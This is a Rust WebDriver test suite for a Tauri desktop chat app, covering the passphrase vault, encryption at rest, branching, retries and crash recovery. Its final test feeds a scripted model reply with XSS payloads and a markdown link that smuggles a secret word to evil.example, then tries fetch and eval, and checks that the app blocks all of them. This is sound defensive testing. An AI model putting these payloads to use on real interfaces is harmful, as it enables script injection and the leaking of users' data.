//! The real window, driven as a person would through WebDriver: `tauri-driver` and the web
//! view's own driver, on a display of its own.

use std::net::{TcpListener, TcpStream};
use std::process::{Child, Stdio};
use std::time::Duration;

use fantoccini::{Client, ClientBuilder, Locator};
use hyper_util::client::legacy::connect::HttpConnector;
use serde_json::json;
use whole_program::{Endpoint, PASSPHRASE, Profile, program, search_for, stream_of};

/// A running window on a profile.
struct Window {
    driver: Child,
    client: Client,
}

impl Window {
    /// Starts the desktop program on the profile, with the endpoint if there is one.
    async fn open(profile: &Profile, endpoint: Option<&Endpoint>) -> Self {
        let (port, native_port) = (free_port(), free_port());
        let mut command = profile.command("tauri-driver");
        command
            .args(["--port", &port.to_string(), "--native-port", &native_port.to_string()])
            .env_remove("BUREAU_PASSPHRASE_FILE")
            .env("LANG", "en_GB.UTF-8")
            .env("LANGUAGE", "en")
            .env("GDK_BACKEND", "x11")
            .env("WEBKIT_DISABLE_DMABUF_RENDERER", "1");
        if let Some(endpoint) = endpoint {
            command.env("BUREAU_ENDPOINT", endpoint.address()).env("BUREAU_MODEL", "scripted");
        }
        let driver = command
            .stdout(Stdio::null())
            .spawn()
            .expect("tauri-driver; cargo xtask test installs it");
        // The web view's own driver, which tauri-driver starts, takes a moment longer.
        for port in [port, native_port] {
            while TcpStream::connect(("127.0.0.1", port)).is_err() {
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
        let capabilities = json!({"tauri:options": {"application": program("bureau-desktop")}});
        let client = ClientBuilder::new(HttpConnector::new())
            .capabilities(capabilities.as_object().unwrap().clone())
            .connect(&format!("http://127.0.0.1:{port}"))
            .await
            .expect("a window on the display; cargo xtask test starts one");
        Self { driver, client }
    }

    async fn close(mut self) {
        self.client.close().await.unwrap();
        self.driver.kill().unwrap();
        self.driver.wait().unwrap();
    }

    /// Ends the program as a crash would.
    async fn kill(mut self, profile: &Profile) {
        let data = profile.data();
        for process in std::fs::read_dir("/proc").unwrap().flatten() {
            let environment = std::fs::read(process.path().join("environ")).unwrap_or_default();
            let executable = std::fs::read_link(process.path().join("exe")).unwrap_or_default();
            let ours = environment
                .windows(data.as_os_str().len())
                .any(|w| w == data.as_os_str().as_encoded_bytes());
            if ours && executable == program("bureau-desktop") {
                let id = process.file_name().into_string().unwrap();
                std::process::Command::new("kill").args(["-KILL", &id]).status().unwrap();
            }
        }
        // The session died with the window, so closing it fails; that is the point.
        let _ = self.client.close().await;
        let _ = self.driver.kill();
        self.driver.wait().unwrap();
    }

    async fn find(&self, selector: &str) -> fantoccini::elements::Element {
        let found = self
            .client
            .wait()
            .at_most(Duration::from_secs(30))
            .for_element(Locator::Css(selector))
            .await;
        match found {
            Ok(element) => element,
            Err(error) => panic!("no {selector}: {error}; the page: {}", self.text().await),
        }
    }

    async fn click(&self, selector: &str) {
        self.find(selector).await.click().await.unwrap();
    }

    async fn write(&self, selector: &str, text: &str) {
        self.find(selector).await.send_keys(text).await.unwrap();
    }

    async fn text(&self) -> String {
        self.client.find(Locator::Css("body")).await.unwrap().text().await.unwrap()
    }

    /// Waits until the page shows this text.
    async fn shows(&self, text: &str) {
        for _ in 0..600 {
            if self.text().await.contains(text) {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("the page never showed “{text}”: {}", self.text().await);
    }

    async fn choose_a_passphrase(&self) {
        self.click("[data-testid=choose-passphrase]").await;
        self.write("[data-testid=new-passphrase]", PASSPHRASE).await;
        self.write("[data-testid=repeat-passphrase]", PASSPHRASE).await;
        self.click("[data-testid=create-vault]").await;
        self.find("[data-testid=composer]").await;
    }

    async fn ask(&self, text: &str) {
        self.write("[data-testid=composer]", text).await;
        self.click("[data-testid=send]").await;
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[tokio::test]
async fn first_start_chat_with_the_built_in_model_and_reopen() {
    let profile = Profile::new();
    let window = Window::open(&profile, None).await;
    window.choose_a_passphrase().await;
    window.ask("Say hello.").await;
    window.find("[data-testid=message][data-role=assistant][data-state=complete]").await;
    let answer =
        window.find("[data-role=assistant] [data-testid=blocks]").await.text().await.unwrap();
    assert!(!answer.trim().is_empty());
    window.close().await;

    let window = Window::open(&profile, None).await;
    window.write("[data-testid=passphrase]", "wrong").await;
    window.click("[data-testid=unlock]").await;
    window.find("[role=alert]").await;
    window.find("[data-testid=passphrase]").await.clear().await.unwrap();
    window.write("[data-testid=passphrase]", PASSPHRASE).await;
    window.click("[data-testid=unlock]").await;
    window.click("[data-testid=conversation-item]").await;
    window.shows(answer.lines().next().unwrap()).await;
    window.close().await;
}

#[tokio::test]
async fn nothing_of_the_window_is_on_disk_in_clear() {
    let profile = Profile::new();
    let endpoint = Endpoint::saying("marimbaanswer, fini");
    let window = Window::open(&profile, Some(&endpoint)).await;
    window.choose_a_passphrase().await;
    window.ask("xylophonequestion").await;
    window.shows("fini").await;
    window.write("[data-testid=composer]", "balafondraft").await;
    window.write("[data-testid=search]", "marimbaanswer").await;
    window.find("[data-testid=search-result]").await;
    window.close().await;
    // The web view's own folders lie in the profile too.
    let words = ["marimbaanswer", "xylophonequestion", "balafondraft", PASSPHRASE];
    let searched = search_for(&words, profile.root(), &profile.passphrase_file());
    assert!(searched > 40_000, "only {searched} bytes were there to be searched");
}

#[tokio::test]
async fn stop_edit_and_branch() {
    let profile = Profile::new();
    let endpoint = Endpoint::start(|request| {
        let question =
            request["messages"].as_array().unwrap().last().unwrap()["content"].to_string();
        if question.contains("long") {
            stream_of(std::iter::repeat_n("encore ", 2000), Duration::from_millis(20))
        } else {
            stream_of(["**Réponse** ", "courte."], Duration::ZERO)
        }
    });
    let window = Window::open(&profile, Some(&endpoint)).await;
    window.choose_a_passphrase().await;
    window.ask("Une question longue: long").await;
    window.shows("encore").await;
    window.click("[data-testid=stop]").await;
    window.find("[data-role=assistant][data-state=stopped]").await;

    window.click("[data-role=user] [data-testid=edit]").await;
    let editor = window.find("[data-testid=edit-text]").await;
    editor.clear().await.unwrap();
    editor.send_keys("Une autre").await.unwrap();
    window.click("[data-testid=edit-send]").await;
    window.find("[data-role=assistant][data-state=complete] strong").await;
    window.shows("2/2").await;
    window.click("[data-testid=previous-branch]").await;
    window.shows("encore").await;
    window.shows("1/2").await;
    window.close().await;
}

#[tokio::test]
async fn a_failure_is_told_where_it_happened_and_can_be_tried_again() {
    let profile = Profile::new();
    let calls = std::sync::atomic::AtomicUsize::new(0);
    let endpoint = Endpoint::start(move |_| {
        if calls.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
            whole_program::Reply::json(401, &json!({"error": {"message": "bad key"}}))
        } else {
            stream_of(["Enfin."], Duration::ZERO)
        }
    });
    let window = Window::open(&profile, Some(&endpoint)).await;
    window.choose_a_passphrase().await;
    window.ask("Bonjour").await;
    window.find("[data-role=assistant][data-state=failed] [role=alert]").await;
    window.click("[data-testid=try-again]").await;
    window.shows("Enfin.").await;
    window.close().await;
}

#[tokio::test]
async fn a_killed_window_keeps_what_had_arrived() {
    let profile = Profile::new();
    let endpoint = Endpoint::start(|_| {
        stream_of(std::iter::repeat_n("gardé ", 2000), Duration::from_millis(20))
    });
    let window = Window::open(&profile, Some(&endpoint)).await;
    window.choose_a_passphrase().await;
    window.ask("x").await;
    window.shows("gardé").await;
    tokio::time::sleep(Duration::from_millis(2500)).await;
    window.kill(&profile).await;

    let window = Window::open(&profile, Some(&endpoint)).await;
    window.write("[data-testid=passphrase]", PASSPHRASE).await;
    window.click("[data-testid=unlock]").await;
    window.click("[data-testid=conversation-item]").await;
    window.find("[data-role=assistant][data-state=interrupted] [data-testid=continue]").await;
    window.shows("gardé").await;
    window.close().await;
}

#[tokio::test]
async fn nothing_a_model_writes_can_run_or_leave() {
    let profile = Profile::new();
    let endpoint = Endpoint::saying(
        "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> [link](https://evil.example/?q=secretword) fini",
    );
    let window = Window::open(&profile, Some(&endpoint)).await;
    window.choose_a_passphrase().await;
    window.ask("secretword of mine is here").await;
    window.shows("fini").await;
    assert_ne!(window.client.title().await.unwrap(), "owned");
    let unsafe_elements = window
        .client
        .find_all(Locator::Css(
            "[data-testid=blocks] :is(script, img, iframe, form, [onerror], [style])",
        ))
        .await;
    assert!(unsafe_elements.unwrap().is_empty());

    let before = window.client.current_url().await.unwrap();
    window.click("[data-testid=blocks] a").await;
    window.find("[data-testid=link-dialog]").await;
    window.shows("evil.example").await;
    assert_eq!(window.client.current_url().await.unwrap(), before);

    // The page itself can neither fetch nor evaluate, whatever it were made to do.
    let refused = window
        .client
        .execute_async(
            "const done = arguments[0];
             const evaluated = (() => { try { return eval('1') === 1 } catch { return false } })();
             fetch('https://evil.example/').then(() => done('fetched'), () => done(evaluated ? 'evaluated' : 'refused'));",
            vec![],
        )
        .await;
    assert_eq!(refused.unwrap(), "refused");
    window.close().await;
}
